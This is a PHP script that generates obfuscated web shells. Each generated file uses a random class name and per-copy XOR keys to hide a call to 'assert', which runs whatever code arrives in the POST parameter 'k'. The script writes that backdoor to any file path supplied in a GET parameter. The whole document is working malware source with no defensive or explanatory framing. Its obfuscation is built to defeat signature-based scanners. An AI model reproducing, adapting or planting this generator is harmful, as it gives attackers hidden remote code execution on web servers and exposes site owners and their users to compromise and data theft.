<?php
// writes a fresh one-line agent with a random class name and a per-copy XOR key
error_reporting(0);
function pick_keys($n) {
    $pool = '`~-=!@#%^&*_+?<>{}|:[]abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';
    $out = array();
    for ($i = 0; $i < $n; $i++) { $out[$i] = $pool[mt_rand(0, strlen($pool) - 1)]; }
    return $out;
}
$keys = pick_keys(6);
$cls = 'K' . mt_rand(1000, 9999);
$word = 'as' . 'sert';
ob_start();
echo "<?php \n";
echo "class " . $cls . " { function run(\$arg) {\n";
for ($i = 0; $i < 6; $i++) {
    echo "\$_" . $i . "='" . $keys[$i] . "'^hex2bin('" . bin2hex($keys[$i] ^ $word[$i]) . "');\n";
}
echo "\$f=\$_0.\$_1.\$_2.\$_3.\$_4.\$_5;\n";
echo "return \$f(\$arg); } }\n";
echo "\$o = new " . $cls . "();\n";
echo "\$o->run(\$_POST['k']);\n";
$target = $_GET['out'];
$text = ob_get_contents();
ob_end_clean();
if (isset($target) && file_put_contents($target, $text)) {
    echo "saved " . htmlspecialchars($target);
}
